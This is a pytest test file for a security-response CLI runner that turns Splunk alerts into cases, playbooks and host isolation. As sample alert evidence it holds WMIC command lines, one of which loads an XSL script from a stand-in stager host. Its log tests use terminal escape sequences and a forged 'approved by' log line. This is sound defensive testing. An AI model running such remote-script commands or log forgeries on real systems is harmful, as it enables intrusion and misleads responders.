"""The command as people and cron use it: exit codes, one JSON value, one sentence, a clean stop."""

from __future__ import annotations

import gc
import io
import logging
import re
import signal
import subprocess
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from connectors.emulators.faults import QUOTA_503
from runner.cli import SystemClock, main
from runner.cli_log import SafeFormatter
from runner.journal import Journal, cases
from runner.ticks import run_once
from tests.command_line import QUICK, CommandLine, Done, command_line, run_command
from tests.polling import dispatches, polling_world, store
from tests.world import running_world


@pytest.fixture(scope="module")
def line(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CommandLine]:
    """A runner that has taken one hit, and is armed."""
    with command_line(tmp_path_factory.mktemp("cli"), QUICK) as found:
        found.store(1)
        assert found("run").code == 0
        assert found("arm", "--reason", "test").code == 0
        yield found


def case_id(line: CommandLine) -> str:
    (case,) = line("cases", "--json").value
    return str(case["id"])


def assert_refused(done: Done, words: str) -> None:
    """Exit code 2, and one sentence that says why."""
    assert done.code == 2
    assert done.out == ""
    assert "Traceback" not in done.err
    assert words in done.err.splitlines()[-1]


def words_of(value: object) -> str:
    """A test's name: the words of the command only."""
    return " ".join(value) or "nothing" if isinstance(value, list) else ""


# -- JSON ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "code", "keys"),
    [
        (["run"], 0, {"errors", "people", "needs", "is_busy"}),
        (["status"], 0, {"mode", "searches", "blind", "questions", "isolated", "needs"}),
        (["status", "--max-age", "1h"], 0, {"mode", "blind"}),
        (["show", "case-0"], 2, {"error"}),
        (["arm", "--reason", "again"], 0, {"at", "actor", "reason", "after_alert"}),
        (["pause", "--reason", "lunch"], 0, {"paused"}),
        (["resume"], 0, {"paused"}),
        (["release", "WS-1", "--reason", "clean"], 2, {"error"}),
        (["resolve", "BCDFG", "not"], 2, {"error"}),
        (["audit", "verify"], 0, {"entries", "erased", "head", "faults"}),
        (["lint"], 0, {"playbooks", "findings"}),
        (["lint", "nowhere.yaml"], 1, {"playbooks", "findings"}),
        (["run", "-c", "nowhere.yaml"], 2, {"error"}),
    ],
    ids=words_of,
)
def test_json_when_asked_of_any_command_then_one_object_comes(
    line: CommandLine, words: list[str], code: int, keys: set[str]
) -> None:
    done = line(*words, "--json")
    assert done.code == code, done
    assert done.err == ""
    assert keys <= set(done.value)


def test_json_when_asked_of_cases_and_check_then_one_list_comes(line: CommandLine) -> None:
    (case,) = line("cases", "--json").value
    assert case["alert_count"] == 1
    checks = line("check", "--json").value
    assert {one["ok"] for one in checks} == {True}


def test_json_when_a_case_is_shown_then_its_records_come(line: CommandLine) -> None:
    shown = line("show", case_id(line), "--json").value
    assert set(shown) == {"case", "alert", "runs", "ledger"}
    assert shown["alert"]["cmdline"] == r"wmic os get /format:C:\1.xsl"
    assert [run["status"] for run in shown["runs"]] == ["succeeded"]


# -- wrong usage -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ([], "required: COMMAND"),
        (["isolate"], "invalid choice: 'isolate'"),
        (["status", "--max-age", "5"], "'5' is no duration; write 30s, 5m, 2h or 1d"),
        (["status", "--max-age", "-5m"], "expected one argument"),
        (["arm"], "required: --reason"),
        (["pause"], "required: --reason"),
        (["release", "WS-1"], "required: --reason"),
        (["resolve", "BCDFG", "perhaps"], "invalid choice: 'perhaps'"),
        (["audit", "trust"], "invalid choice: 'trust'"),
        (["show"], "required: CASE"),
        (["run", "--fast"], "unrecognized arguments: --fast"),
    ],
    ids=words_of,
)
def test_command_when_used_wrongly_then_two_and_its_last_line_says_why(
    capsys: pytest.CaptureFixture[str], words: list[str], said: str
) -> None:
    try:
        with pytest.raises(SystemExit) as ended:
            main(words)
    finally:
        gc.enable()
    written = capsys.readouterr()
    assert_refused(Done(code=int(str(ended.value)), out=written.out, err=written.err), said)


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["show", "case-0"], "there is no case case-0; stockade cases lists them"),
        (["release", "WS-1", "--reason", "x"], "WS-1 is not isolated through this runner"),
        (["resolve", "BCDFG", "not"], "nothing with the code BCDFG waits for a person"),
    ],
    ids=words_of,
)
def test_command_when_it_names_what_is_not_there_then_two_and_one_sentence(
    line: CommandLine, words: list[str], said: str
) -> None:
    done = line(*words)
    assert_refused(done, said)
    assert done.err.count("\n") == 1


def test_command_when_there_is_no_configuration_then_two_and_nothing_is_made(
    tmp_path: Path,
) -> None:
    assert_refused(run_command("run", folder=tmp_path), "config.yaml:1:1: the file cannot be read")
    assert list(tmp_path.iterdir()) == []


TEN_FAULTS = """\
version: 2
mode: bold
colour: red
people:
  kim: {slack: 7}
connectors:
  splunk:
    type: splnk
    base_url: https://splunk.example.test:8089
    credentials: {token: plain-text-secret}
  falcon:
    type: falcon
    base_url: http://falcon.example.test
    credentials: {client_id: {env: NOT_SET_ANYWHERE}, client_secret: {file: nowhere}}
roles: {siem: splunk, edr: carbon}
searches:
  hits: {saved_search: x, playbook: nowhere, overlap_s: -1}
approvals: {quorum: 0}
"""


def test_configuration_when_it_has_ten_faults_then_ten_lines_with_place_and_mend(
    tmp_path: Path,
) -> None:
    file = tmp_path / "config.yaml"
    file.touch(mode=0o600)
    file.write_text(TEN_FAULTS)
    done = run_command("run", folder=tmp_path)
    assert done.code == 2
    assert done.out == ""
    lines = done.err.splitlines()
    assert len(lines) >= 10
    shape = re.compile(r"config\.yaml:(\d+):(\d+): [^.].*\. [A-Z].*[.?]")
    assert [one for one in lines if not shape.fullmatch(one)] == []
    places = [tuple(map(int, one.split(":")[1:3])) for one in lines]
    assert places == sorted(places)
    assert len(set(places)) >= 10
    assert "plain-text-secret" not in done.err
    as_json = run_command("run", "--json", folder=tmp_path)
    assert as_json.value == {"error": lines}
    assert not (tmp_path / "state").exists()


# -- the state folder ------------------------------------------------------------------------------


def test_run_when_others_may_read_the_state_folder_then_one_and_one_sentence(
    tmp_path: Path,
) -> None:
    with command_line(tmp_path, QUICK) as line:
        (tmp_path / "journal").mkdir(mode=0o755)
        (tmp_path / "journal").chmod(0o755)
        done = line("run")
        assert done.code == 1
        assert done.err.count("\n") == 1
        assert "run chmod 700 on it" in done.err


def test_run_when_the_journal_is_damaged_then_one_and_one_sentence(tmp_path: Path) -> None:
    with command_line(tmp_path, QUICK) as line:
        (tmp_path / "journal").mkdir(mode=0o700)
        (tmp_path / "journal" / "journal.db").write_bytes(b"rubbish" * 1000)
        done = line("run")
        assert done.code == 1
        assert done.err.count("\n") == 1
        assert "journal.db" in done.err


def test_run_when_another_runner_is_at_work_then_zero_and_it_says_so(line: CommandLine) -> None:
    other = Journal(line.folder / "journal", SystemClock())
    assert other.own()
    done = line("run", "--detailed-exit-code")
    assert done.code == 0
    assert done.out == "another runner is at work on this state folder\n"
    assert line("run", "--json").value["is_busy"] is True
    assert line("status", "--json").value["is_running"] is True
    other.close()
    assert line("status", "--json").value["is_running"] is False


# -- exit codes of run -----------------------------------------------------------------------------


def test_run_when_people_are_waited_for_then_zero_or_in_detail_three(tmp_path: Path) -> None:
    with running_world(tmp_path) as world:
        world.arm()
        world.hit()
        assert run_once(world.service, is_detailed=False).code == 0
        done = run_once(world.service, is_detailed=True)
        assert done.code == 3
        assert done.text == "1 question(s) wait for people"
        world.splunk.misbehave(QUOTA_503, path="*/dispatch", times=None)
        world.clock.advance(60)
        assert run_once(world.service, is_detailed=True).code == 1, "a fault goes before waiting"


NEEDY = """\
playbook: seen
description: Fail at once.
steps:
  - id: ticket
    do: tickets.create_ticket
    with: {title: "a ticket that Jira does not take"}
"""


def test_run_when_a_person_is_needed_then_zero_or_in_detail_four(tmp_path: Path) -> None:
    with polling_world(tmp_path, playbook=NEEDY) as world:
        world.arm()
        world.jira.misbehave(method="POST", path="*/issue", status=400, body="{}", times=None)
        world.clock.advance(60)
        store(world)
        assert run_once(world.service, is_detailed=False).code == 0
        done = run_once(world.service, is_detailed=True)
        assert done.code == 4
        assert "A PERSON IS NEEDED: seen failed for case-" in done.text
        world.splunk.misbehave(QUOTA_503, path="*/dispatch", times=None)
        world.clock.advance(60)
        assert run_once(world.service, is_detailed=True).code == 4, "a person goes before a fault"
        assert run_once(world.service, is_detailed=False).code == 1


def test_run_when_a_question_is_open_then_the_process_itself_ends_with_three(
    tmp_path: Path,
) -> None:
    with command_line(tmp_path) as line:
        assert line("run").code == 0
        assert line("arm", "--reason", "test").code == 0
        line.store(1, cmdline='wmic os get /format:"https://stager.example.test/a.xsl"')
        done = line("run", "--detailed-exit-code")
        assert done.code == 3, done
        assert "1 question(s) wait for people" in done.out
        assert line("run").code == 0
        (question,) = line("status", "--json").value["questions"]
        assert question["devices"] == ["WORKSTATION5"]


# -- status ----------------------------------------------------------------------------------------


def test_status_when_the_runner_is_dead_then_one_and_blind(tmp_path: Path) -> None:
    with command_line(tmp_path, QUICK) as line:
        assert line("status", "--max-age", "5m").code == 1
        assert line("run").code == 0
        assert line("status", "--max-age", "5m").code == 0
        line.splunk.misbehave(QUOTA_503, path="*/dispatch", times=None)
        failed = line("run")
        assert failed.code == 1
        assert failed.err.count("\n") == 1
        dead = line("status", "--max-age", "0s")
        assert dead.code == 1
        assert "BLIND: its last whole poll was" in dead.err
        assert line("status").code == 0


# -- serve -----------------------------------------------------------------------------------------


def wait_until(is_so: Callable[[], bool]) -> None:
    """Errors: `AssertionError` after twenty seconds."""
    clock = SystemClock()
    until = clock.monotonic() + 20
    while not is_so():
        assert clock.monotonic() < until, "it did not come to it"
        clock.sleep(0.02)


def stop(served: subprocess.Popen[str]) -> None:
    """As a service manager stops it: cleanly, at once; it complained only of being unarmed."""
    served.send_signal(signal.SIGTERM)
    out, err = served.communicate(timeout=30)
    assert (served.returncode, out) == (0, "stopped\n")
    assert [line.split("runner.noticing ")[-1] for line in err.splitlines()] == [
        "not armed: hits are only observed before stockade arm --reason …"
    ]


def test_serve_when_told_to_stop_in_a_call_then_it_ends_after_it_and_nothing_is_lost(
    tmp_path: Path,
) -> None:
    with command_line(tmp_path, QUICK) as line:
        line.store(1)
        line.splunk.misbehave(path="*/WMIC*/dispatch", delay_after_s=1.0)
        with line.start("serve") as served:
            wait_until(lambda: any("/WMIC" in one.path for one in line.splunk.requests))
            stop(served)
        assert line("cases", "--json").value == [], "it stopped before the rows came"
        assert line("run").code == 0
        (case,) = line("cases", "--json").value
        assert case["alert_count"] == 1
        assert len(dispatches(line.splunk)) == 1, "the next one went on with the same job"
        assert line("audit", "verify").code == 0


def test_serve_when_left_running_then_it_takes_hits_and_one_run_beside_it_does_nothing(
    tmp_path: Path,
) -> None:
    with command_line(tmp_path, QUICK) as line:
        line.store(1)
        with line.start("serve") as served:
            reader = Journal(tmp_path / "journal", SystemClock())
            wait_until(lambda: has_case(reader))
            assert "another runner is at work" in line("run").out
            stop(served)
        reader.close()
        assert line("status", "--json").value["is_running"] is False


def has_case(journal: Journal) -> bool:
    with journal.read() as tx:
        return bool(cases.every(tx))


# -- the log ---------------------------------------------------------------------------------------

FORGED = "2026-11-25 12:00:00,000 INFO runner.cards approved by responder-a"


def log_of(write: Callable[[logging.Logger], None]) -> list[str]:
    """The lines that the command's own formatter makes of what is logged."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(SafeFormatter("%(asctime)s %(levelname)s %(name)s %(message)s"))
    logger = logging.getLogger("test")
    logger.addHandler(handler)
    write(logger)
    logger.removeHandler(handler)
    return stream.getvalue().removesuffix("\n").split("\n")


def test_log_when_evidence_is_hostile_then_an_event_is_one_line_without_a_steering_character() -> (
    None
):
    def write(logger: logging.Logger) -> None:
        logger.warning("cmdline=%s", f"\x1b[2J\r\n{FORGED}\u202e\u2028\x00")

    (line,) = log_of(write)
    assert line.isprintable()
    assert r"\x1b[2J\x0d\x0a2026" in line


def test_log_when_a_faults_text_forges_an_event_then_it_stands_behind_the_mark_of_a_traceback() -> (
    None
):
    def write(logger: logging.Logger) -> None:
        try:
            raise ValueError(f"no\x1b[2J\n{FORGED}")
        except ValueError:
            logger.exception("case=%s cannot be carried", "case-1")

    first, *rest = log_of(write)
    assert first.endswith("ERROR test case=case-1 cannot be carried")
    assert all(line.startswith("  | ") for line in rest)
    assert f"  | {FORGED}" in rest
    assert all(line.isprintable() for line in [first, *rest])


# -- the heartbeat ---------------------------------------------------------------------------------


class Receiver(ThreadingHTTPServer):
    """Counts what is posted to it."""

    def __init__(self) -> None:
        self.posted: list[str] = []
        super().__init__(("127.0.0.1", 0), _Counting)
        Thread(target=self.serve_forever, args=(0.02,), daemon=True).start()


class _Counting(BaseHTTPRequestHandler):
    server: Receiver

    def do_POST(self) -> None:
        self.server.posted.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        """Silence."""


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    found = Receiver()
    yield found
    found.shutdown()
    found.server_close()


def test_heartbeat_when_a_tick_was_good_then_it_is_posted_once_and_else_not_at_all(
    tmp_path: Path, receiver: Receiver
) -> None:
    with command_line(tmp_path, QUICK) as line:
        port = receiver.server_address[1]
        line.secret("heartbeat", f"http://127.0.0.1:{port}/beat/hidden-word")
        line.configure({**QUICK, "heartbeat_url": {"file": "secrets/heartbeat"}})
        assert line("run").code == 0
        assert receiver.posted == ["/beat/hidden-word"]
        line.splunk.misbehave(QUOTA_503, path="*/dispatch", times=None)
        assert line("run").code == 1
        assert receiver.posted == ["/beat/hidden-word"], "a tick that could not poll is not good"
        line.splunk.behave()
        receiver.shutdown()
        receiver.server_close()
        done = line("run")
        assert done.code == 1
        assert done.err.startswith("heartbeat: ")
        assert done.err.count("\n") == 1
        assert "hidden-word" not in done.err
